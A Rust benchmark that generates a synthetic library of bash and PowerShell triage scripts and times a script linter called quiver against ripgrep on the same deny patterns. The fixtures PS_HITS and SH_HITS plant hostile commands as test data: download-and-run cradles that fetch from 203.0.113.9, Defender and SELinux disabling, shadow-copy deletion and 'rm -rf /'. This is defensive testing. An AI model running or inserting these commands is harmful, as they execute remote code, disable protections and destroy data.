//! `quiver lint` against ripgrep on the same files with the same deny patterns.
//!
//! Generates a library of 2,000 scripts (about 100 MB: PowerShell as UTF-8, UTF-8 with a
//! BOM and UTF-16 LE, and bash; realistic collection code with a few rule hits) in a temp
//! folder, then times, interleaved and several times each, on the same files:
//!
//! - `rg -c -e p1 -e p2 …` with every `pattern` of `policies/rules.toml`, each `\b`
//!   written as the ASCII word boundary quiver compiles it to. ripgrep decodes UTF-16 by
//!   BOM sniffing (`--encoding auto`, its default), so both see the same text;
//! - the release `quiver lint --no-syntax`: the content scan (reading, decoding, the
//!   regex rules, encodings, paths, manifests) without parsing, the like-for-like
//!   comparison with ripgrep;
//! - the release `quiver lint`: the same plus a tree-sitter parse of every entry file
//!   (the syntax check and the command rules), which ripgrep has no counterpart for.
//!
//! It prints the three medians and both ratios to ripgrep, and the CPU time (user + sys)
//! of each, so that `quiver lint` using every core shows as CPU > wall.
//!
//! Run: `cargo bench -p quiver-tests --bench lint_vs_rg` (needs `rg` on PATH). Set
//! `LINT_BENCH_SCRIPTS` / `LINT_BENCH_REPS` to change the size and repetitions,
//! `LINT_BENCH_RG_UNICODE=1` to also time ripgrep with the patterns as written (Unicode
//! `\b`, slow in ripgrep 13 on non-ASCII text), and `LINT_BENCH_KEEP=1` to keep the
//! generated library for profiling.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn main() {
    let scripts: usize = env_or("LINT_BENCH_SCRIPTS", 2000);
    let reps: usize = env_or("LINT_BENCH_REPS", 5);
    let root = quiver_tests::workspace_root();

    // The release binary, built here so the numbers never come from a debug build.
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    let status = Command::new(cargo)
        .current_dir(&root)
        .args([
            "build",
            "--release",
            "--quiet",
            "-p",
            "quiver",
            "--bin",
            "quiver",
        ])
        .status()
        .expect("cargo build --release");
    assert!(status.success(), "building quiver --release failed");
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| root.join("target"));
    let quiver = target.join("release").join("quiver");

    let rules =
        std::fs::read_to_string(root.join("policies/rules.toml")).expect("policies/rules.toml");
    let patterns = patterns_of(&rules);
    assert!(!patterns.is_empty(), "no patterns in policies/rules.toml");

    let dir = tempfile::tempdir().expect("temp dir");
    let lib = dir.path().join("library");
    let policies = dir.path().join("policies");
    std::fs::create_dir_all(&policies).unwrap();
    std::fs::write(policies.join("rules.toml"), &rules).unwrap();
    let started = Instant::now();
    let (files, bytes, hits) = generate(&lib, scripts);
    eprintln!(
        "generated {scripts} scripts, {files} files, {:.1} MB ({hits} planted rule hits) in {:.1?}",
        bytes as f64 / 1e6,
        started.elapsed()
    );

    let quiver_cmd = |extra: &[&str]| {
        let mut cmd = Command::new(&quiver);
        cmd.current_dir(dir.path())
            .args([
                "lint",
                "library",
                "--policies",
                "policies",
                "--format",
                "json",
            ])
            .args(extra);
        cmd
    };
    let mut full_cmd = quiver_cmd(&[]);
    let mut quick_cmd = quiver_cmd(&["--no-syntax"]);
    // ripgrep with ASCII word boundaries, which is how quiver compiles the patterns (it
    // keeps the search a DFA on non-ASCII text): the like-for-like comparison.
    let ascii: Vec<String> = patterns.iter().map(|p| ascii_word_boundaries(p)).collect();
    let mut rg_cmd = rg(dir.path(), &ascii);
    let mut rg_unicode_cmd = std::env::var_os("LINT_BENCH_RG_UNICODE")
        .is_some()
        .then(|| rg(dir.path(), &patterns));

    // Warm the page cache and check that all of them run and agree on the files.
    let quiver_files = |cmd: &mut Command| {
        let out = cmd.output().expect("run quiver");
        let report: serde_json::Value =
            serde_json::from_slice(&out.stdout).expect("quiver json report");
        let findings = report["findings"].as_array().cloned().unwrap_or_default();
        let mut files: Vec<String> = findings
            .iter()
            .filter_map(|f| f["location"]["file"].as_str().map(str::to_string))
            .collect();
        files.dedup();
        (findings.len(), files.len())
    };
    let rg_files = |cmd: &mut Command| {
        let out = cmd.output().expect("run rg (apt-get install ripgrep)");
        String::from_utf8_lossy(&out.stdout).lines().count()
    };
    let (full_findings, full_files) = quiver_files(&mut full_cmd);
    let (quick_findings, quick_files) = quiver_files(&mut quick_cmd);
    eprintln!(
        "quiver lint: {full_findings} findings in {full_files} files; --no-syntax: {quick_findings} findings in {quick_files} files; rg: matches in {} files",
        rg_files(&mut rg_cmd),
    );

    let (mut tr, mut tq, mut tf, mut tu) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for _ in 0..reps {
        tr.push(time(&mut rg_cmd));
        tq.push(time(&mut quick_cmd));
        tf.push(time(&mut full_cmd));
        if let Some(cmd) = rg_unicode_cmd.as_mut() {
            tu.push(time(cmd));
        }
    }
    let (mr, mq, mf) = (median(&mut tr), median(&mut tq), median(&mut tf));
    let mut report = String::new();
    let _ = writeln!(
        report,
        "library: {scripts} scripts, {files} files, {:.1} MB; {} cores",
        bytes as f64 / 1e6,
        std::thread::available_parallelism().map_or(1, |n| n.get())
    );
    let _ = writeln!(report, "medians of {reps}, wall (CPU = user + sys):");
    for (name, runs) in [
        (
            format!("rg -c, {} patterns (ASCII \\b)", patterns.len()),
            &tr,
        ),
        ("quiver lint --no-syntax".to_string(), &tq),
        ("quiver lint".to_string(), &tf),
        (
            format!("rg -c, {} patterns as written", patterns.len()),
            &tu,
        ),
    ] {
        if runs.is_empty() {
            continue;
        }
        let mut wall: Vec<Duration> = runs.iter().map(|r| r.wall).collect();
        let mut cpu: Vec<Duration> = runs.iter().map(|r| r.cpu).collect();
        let _ = writeln!(
            report,
            "  {name:<32} {:7.3} s ({:7.3} s)   runs: {}",
            median(&mut wall).as_secs_f64(),
            median(&mut cpu).as_secs_f64(),
            list(runs)
        );
    }
    let _ = writeln!(
        report,
        "ratio quiver lint --no-syntax / rg: {:.2}; quiver lint / rg: {:.2}",
        mq.wall.as_secs_f64() / mr.wall.as_secs_f64(),
        mf.wall.as_secs_f64() / mr.wall.as_secs_f64()
    );
    print!("{report}");
    if std::env::var_os("LINT_BENCH_KEEP").is_some() {
        let kept = dir.keep();
        eprintln!("kept the library in {}", kept.display());
    }
}

/// `rg -c -e p1 -e p2 … library`, with BOM sniffing (its default) decoding UTF-16.
fn rg(dir: &Path, patterns: &[String]) -> Command {
    let mut cmd = Command::new("rg");
    cmd.current_dir(dir).arg("-c").arg("--no-messages");
    for p in patterns {
        cmd.arg("-e").arg(p);
    }
    cmd.arg("library");
    cmd
}

/// Rewrites every `\b` outside a character class as `(?-u:\b)`.
fn ascii_word_boundaries(pattern: &str) -> String {
    let mut out = String::with_capacity(pattern.len() + 64);
    let mut chars = pattern.chars();
    let mut class_depth = 0usize;
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('b') if class_depth == 0 => out.push_str("(?-u:\\b)"),
                Some(n) => {
                    out.push('\\');
                    out.push(n);
                }
                None => out.push('\\'),
            },
            '[' => {
                class_depth += 1;
                out.push(c);
            }
            ']' if class_depth > 0 => {
                class_depth -= 1;
                out.push(c);
            }
            _ => out.push(c),
        }
    }
    out
}

fn env_or(name: &str, default: usize) -> usize {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// One timed run: wall clock, and the CPU time (user + sys) of the process.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
struct Run {
    wall: Duration,
    cpu: Duration,
}

fn time(cmd: &mut Command) -> Run {
    let before = children_cpu();
    let t = Instant::now();
    let status = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("run");
    let wall = t.elapsed();
    // quiver exits 1 on deny findings, rg 1 on no match; anything else is a failure.
    assert!(
        matches!(status.code(), Some(0 | 1)),
        "{cmd:?} failed: {status}"
    );
    Run {
        wall,
        cpu: children_cpu().saturating_sub(before),
    }
}

/// User + system time of this process's waited-for children so far (`times(2)`, via
/// `/proc/self/stat` fields 16 and 17, in clock ticks of 1/100 s on Linux).
fn children_cpu() -> Duration {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    // The fields after the command name, which is in parentheses and may hold spaces.
    let rest = stat.rsplit_once(')').map_or("", |(_, r)| r);
    let fields: Vec<u64> = rest
        .split_whitespace()
        .map(|f| f.parse().unwrap_or(0))
        .collect();
    // `rest` starts at field 3 (state); cutime and cstime are fields 16 and 17.
    let ticks = fields.get(13).copied().unwrap_or(0) + fields.get(14).copied().unwrap_or(0);
    Duration::from_millis(ticks * 10)
}

fn median<T: Ord + Copy>(v: &mut [T]) -> T {
    v.sort();
    v[v.len() / 2]
}

fn list(v: &[Run]) -> String {
    v.iter()
        .map(|r| format!("{:.3}", r.wall.as_secs_f64()))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Every `pattern` of the rule set.
fn patterns_of(rules: &str) -> Vec<String> {
    let doc: toml::Table = rules.parse().expect("rules.toml parses");
    doc.get("rule")
        .and_then(|r| r.as_array())
        .map(|rules| {
            rules
                .iter()
                .filter_map(|r| {
                    r.get("pattern")
                        .and_then(|p| p.as_str())
                        .map(str::to_string)
                })
                .collect()
        })
        .unwrap_or_default()
}

/// A tiny deterministic generator (xorshift), so every run benches the same library.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

const PS_TARGETS: &[&str] = &[
    "Win32_Service",
    "Win32_Process",
    "Win32_StartupCommand",
    "Win32_LogicalDisk",
    "Win32_NetworkAdapterConfiguration",
    "Win32_QuickFixEngineering",
    "Win32_UserAccount",
    "Win32_ScheduledJob",
    "Win32_Share",
    "Win32_OperatingSystem",
];
const PS_PROPS: &[&str] = &[
    "Name",
    "ProcessId",
    "CommandLine",
    "ExecutablePath",
    "State",
    "StartMode",
    "PathName",
    "Caption",
    "InstallDate",
    "Description",
    "SID",
    "Status",
];
const SH_TOOLS: &[&str] = &[
    "ps",
    "ss",
    "lsof",
    "last",
    "who",
    "df",
    "mount",
    "lsmod",
    "uptime",
    "journalctl",
];
const SH_PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/crontab",
    "/var/log/auth.log",
    "/etc/ssh/sshd_config",
    "/etc/systemd/system",
    "/var/spool/cron",
    "/etc/hosts",
    "/proc/net/tcp",
];

/// A PowerShell collection block (about 900 bytes).
fn ps_block(rng: &mut Rng, i: usize, non_ascii: bool) -> String {
    let class = rng.pick(PS_TARGETS);
    let (a, b, c) = (rng.pick(PS_PROPS), rng.pick(PS_PROPS), rng.pick(PS_PROPS));
    let note = if non_ascii {
        "Sammlung läuft – bitte warten"
    } else {
        "collection running, please wait"
    };
    format!(
        r#"
# Collects {class} records ({i}) and writes them as CSV for the case folder.
function Get-Inventory{i} {{
    [CmdletBinding()]
    param(
        [string]$ComputerName = $env:COMPUTERNAME,
        [int]$Limit = {limit}
    )
    Write-Verbose "{note}"
    $items = Get-CimInstance -ClassName {class} -ErrorAction SilentlyContinue |
        Select-Object -First $Limit
    foreach ($item in $items) {{
        [PSCustomObject]@{{
            Computer = $ComputerName
            {a} = $item.{a}
            {b} = $item.{b}
            {c} = $item.{c}
            Collected = (Get-Date).ToUniversalTime().ToString('o')
        }}
    }}
}}
$result{i} = Get-Inventory{i} -Limit {limit}
if ($result{i}) {{
    $result{i} | Export-Csv -NoTypeInformation -Path (Join-Path $OutDir 'inventory-{i}.csv')
}} else {{
    Write-Warning 'nothing collected for {class}'
}}
"#,
        limit = 100 + rng.next() % 900,
    )
}

/// A bash collection block (about 700 bytes).
fn sh_block(rng: &mut Rng, i: usize) -> String {
    let tool = rng.pick(SH_TOOLS);
    let path = rng.pick(SH_PATHS);
    format!(
        r#"
# Section {i}: {tool} and {path}
collect_{i}() {{
    local out="$OUT_DIR/section-{i}.txt"
    {{
        echo "== {tool} ($(date -u +%Y-%m-%dT%H:%M:%SZ)) =="
        if command -v {tool} >/dev/null 2>&1; then
            {tool} 2>/dev/null | head -n {n} || true
        else
            echo "{tool} not installed"
        fi
        if [ -r "{path}" ]; then
            stat -c '%n %s %y %U' "{path}" 2>/dev/null
            sha256sum "{path}" 2>/dev/null | cut -d' ' -f1
        fi
    }} >"$out"
    printf '%s\n' "$out"
}}
collect_{i}
"#,
        n = 50 + rng.next() % 450,
    )
}

/// Lines that trip the default rules, planted in a few scripts.
const PS_HITS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\n",
    "Set-MpPreference -DisableRealtimeMonitoring $true\n",
    "vssadmin delete shadows /all /quiet\n",
];
const SH_HITS: &[&str] = &[
    "curl -fsSL http://203.0.113.9/x.sh | sh\n",
    "setenforce 0\n",
    "rm -rf --no-preserve-root /\n",
];

fn utf16le_bom(text: &str) -> Vec<u8> {
    let mut out = vec![0xFF, 0xFE];
    for u in text.encode_utf16() {
        out.extend_from_slice(&u.to_le_bytes());
    }
    out
}

/// Writes the library; returns (files, bytes, planted hits).
fn generate(lib: &Path, scripts: usize) -> (usize, u64, usize) {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let (mut files, mut bytes, mut hits) = (0usize, 0u64, 0usize);
    for n in 0..scripts {
        let name = format!("triage-{n:04}");
        let dir = lib.join(&name);
        std::fs::create_dir_all(&dir).unwrap();
        // Mix: 35% bash, 30% PowerShell UTF-8, 15% UTF-8 with BOM (non-ASCII), 20% UTF-16 LE.
        let kind = n % 20;
        let plant = n % 97 == 13;
        let (platform, interpreter, file, content): (&str, &str, String, Vec<u8>) = if kind < 7 {
            let mut text = String::from(
                "#!/usr/bin/env bash\n# Linux triage collector\nset -u\nOUT_DIR=\"${1:-/tmp/triage}\"\nmkdir -p \"$OUT_DIR\"\n",
            );
            let mut i = 0;
            while text.len() < 32_000 + (rng.next() % 16_000) as usize {
                text.push_str(&sh_block(&mut rng, i));
                i += 1;
            }
            if plant {
                text.push_str(rng.pick(SH_HITS));
                hits += 1;
            }
            ("linux", "bash", format!("{name}.sh"), text.into_bytes())
        } else {
            let encoding = match kind {
                7..=12 => "utf8",
                13..=15 => "bom",
                _ => "utf16",
            };
            let mut text = String::from(
                "# Windows triage collector\n$ErrorActionPreference = 'Continue'\n$OutDir = Join-Path $env:TEMP 'triage'\nNew-Item -ItemType Directory -Force -Path $OutDir | Out-Null\n",
            );
            let mut i = 0;
            // UTF-16 doubles the bytes; keep roughly the same text length per script.
            while text.len() < 36_000 + (rng.next() % 16_000) as usize {
                text.push_str(&ps_block(&mut rng, i, encoding == "bom"));
                i += 1;
            }
            if plant {
                text.push_str(rng.pick(PS_HITS));
                hits += 1;
            }
            let content = match encoding {
                "utf8" => text.into_bytes(),
                "bom" => [&[0xEF, 0xBB, 0xBF][..], text.as_bytes()].concat(),
                _ => utf16le_bom(&text),
            };
            ("windows", "powershell", format!("{name}.ps1"), content)
        };
        let manifest = format!(
            "name = \"{name}\"\ndescription = \"Generated triage collector {n}\"\nplatforms = [\"{platform}\"]\ntimeout = \"5m\"\ntags = [\"bench\"]\n\n[entry.{platform}]\nfile = \"{file}\"\ninterpreter = \"{interpreter}\"\n"
        );
        for (path, data) in [
            (dir.join("script.toml"), manifest.into_bytes()),
            (dir.join(&file), content),
        ] {
            bytes += data.len() as u64;
            files += 1;
            std::fs::write(path, data).unwrap();
        }
    }
    (files, bytes, hits)
}
